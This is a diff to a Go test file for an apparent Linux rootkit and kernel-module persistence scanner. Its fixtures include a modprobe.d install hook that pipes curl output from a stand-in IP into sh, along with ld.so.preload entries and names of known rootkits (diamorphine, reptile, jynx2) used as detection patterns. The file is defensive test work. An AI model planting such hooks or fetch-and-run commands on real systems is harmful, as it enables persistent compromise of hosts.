@@ -137,14 +137,23 @@ func TestFires(t *testing.T) {
 		{"module hidden from sysfs", live + "-- proc/modules --\nbr_netfilter 32768 0 - Live 0x0000000000000000\nsneaky 16384 0 - Live 0x0000000000000000 (OE)\n", true, ruleHidden, "module sneaky", model.High, indHiddenModule},
 		{"taint with module gone", live + "-- proc/sys/kernel/tainted --\n12288\n", true, ruleTainted, "kernel taint", model.Medium, ""},
 		{"taint unexplained module", live + "-- proc/sys/kernel/tainted --\n12288\n-- proc/modules --\nhid 16384 0 - Live 0x0000000000000000 (OE)\n-- sys/module/hid/initstate --\nlive\n", true, ruleTainted, "kernel taint", model.Medium, ""},
-		{"autoload unknown", "-- etc/modules-load.d/sys.conf --\ndiamorphine\n", false, ruleAutoload, "diamorphine", model.High, indModuleUnknown},
-		{"autoload in /etc/modules", "-- etc/modules --\nloop\nreptile_module\n", false, ruleAutoload, "reptile_module", model.High, indModuleUnknown},
+		{"autoload unknown", "-- etc/modules-load.d/sys.conf --\nsysmond\n", false, ruleAutoload, "sysmond", model.High, indModuleUnknown},
+		{"autoload in /etc/modules", "-- etc/modules --\nloop\nkthreadd_x\n", false, ruleAutoload, "kthreadd_x", model.High, indModuleUnknown},
 		{"modprobe download", "-- etc/modprobe.d/usb.conf --\ninstall usb-storage /bin/sh -c 'curl -s http://203.0.113.7/u | sh'\n", false, ruleModprobe, "install usb-storage", model.Critical, "download-exec"},
 		{"modprobe runs program", "-- etc/modprobe.d/dummy.conf --\ninstall dummy /usr/local/sbin/netd; /sbin/modprobe --ignore-install dummy\n", false, ruleModprobe, "install dummy", model.High, indModprobeRuns},
 		{"modprobe tmp", "-- etc/modprobe.d/x.conf --\nremove ext4 \\\n  /var/tmp/.k/agent\n", false, ruleModprobe, "remove ext4", model.Critical, indWritable},
 		{"stray module in tmp", "-- tmp/.x/diamorphine.ko --\n" + elfKo + "\n", false, ruleStray, "/tmp/.x/diamorphine.ko", model.High, indWritable},
 		{"stray module in root", "-- root/Diamorphine/diamorphine.ko --\n" + elfKo + "\n", false, ruleStray, "/root/Diamorphine/diamorphine.ko", model.Medium, ""},
 		{"stray compressed module in etc", "-- etc/sysconfig/x.ko.xz --\n\xfd7zXZ\x00\x00\n", false, ruleStray, "/etc/sysconfig/x.ko.xz", model.High, ""},
+		{"rootkit in modules-load.d", "-- etc/modules-load.d/sys.conf --\ndiamorphine\n", false, ruleKnownRootkitModule, "diamorphine", model.Critical, indKnownRootkit},
+		{"rootkit in /etc/modules", "-- etc/modules --\nloop\nreptile-module\n", false, ruleKnownRootkitModule, "reptile-module", model.Critical, indKnownRootkit},
+		{"rootkit options in modprobe.d", "-- etc/modprobe.d/x.conf --\noptions suterusu hide=1\n", false, ruleKnownRootkitModule, "suterusu", model.Critical, indKnownRootkit},
+		{"rootkit alias in modprobe.d", "-- etc/modprobe.d/x.conf --\nalias net-pf-99 kovid\n", false, ruleKnownRootkitModule, "kovid", model.Critical, indKnownRootkit},
+		{"rootkit softdep in modprobe.d", "-- etc/modprobe.d/x.conf --\nsoftdep ext4 post: adore-ng\n", false, ruleKnownRootkitModule, "adore-ng", model.Critical, indKnownRootkit},
+		{"userland rootkit in /usr/local/lib", "-- usr/local/lib/libprocesshider.so --\nELF\n", false, ruleKnownRootkitFile, "/usr/local/lib/libprocesshider.so", model.Critical, indKnownRootkit},
+		{"userland rootkit default path", "-- lib/libselinux.so --\nELF\n", false, ruleKnownRootkitFile, "/lib/libselinux.so", model.Critical, indKnownRootkit},
+		{"userland rootkit in tmp", "-- tmp/.x/jynx2.so --\nELF\n", false, ruleKnownRootkitFile, "/tmp/.x/jynx2.so", model.Critical, indKnownRootkit},
+		{"preload of a known rootkit", "-- etc/ld.so.preload --\n/XxJynx/reality.so\n", false, rulePreload, "reality.so", model.Critical, indKnownRootkit},
 		{"unowned module in tree", "-- usr/lib/modules/" + kernel + "/kernel/drivers/net/e1000x.ko --\n" + elfKo + "\n", false, ruleUnownedModule, "e1000x.ko", model.Medium, indNotPackaged},
 	}
 	cat := catalog.MustLoad()
@@ -199,6 +208,16 @@ func dump(fs []model.Finding) string {
 
 // The same hidden module is the same finding across scans, whatever the
 // address or reference count in /proc/modules.
+// Without a module tree, a rootkit's name is still judged; a blacklist line
+// naming one is a defence.
+func TestRootkitNameWithoutTree(t *testing.T) {
+	dir := testutil.RootFromString(t, "-- etc/passwd --\nroot:x:0:0::/root:/bin/sh\n-- etc/modules-load.d/a.conf --\ndiamorphine\n-- etc/modprobe.d/b.conf --\nblacklist reptile\n")
+	r := enginetest.Run(t, New(), dir, false)
+	if len(r.Find(ruleKnownRootkitModule)) != 1 || !r.Has(ruleKnownRootkitModule, "/etc/modules-load.d/a.conf (diamorphine)") {
+		t.Fatalf("got:\n%s", dump(r.Findings))
+	}
+}
+
 func TestFingerprintStable(t *testing.T) {
 	a := enginetest.Run(t, New(), fixture(t, live+"-- proc/modules --\nrk 16384 0 - Live 0xffffffffc0a00000 (OE)\n"), true)
 	b := enginetest.Run(t, New(), fixture(t, live+"-- proc/modules --\nrk 20480 3 - Live 0xffffffffc0b00000 (OE)\n"), true)
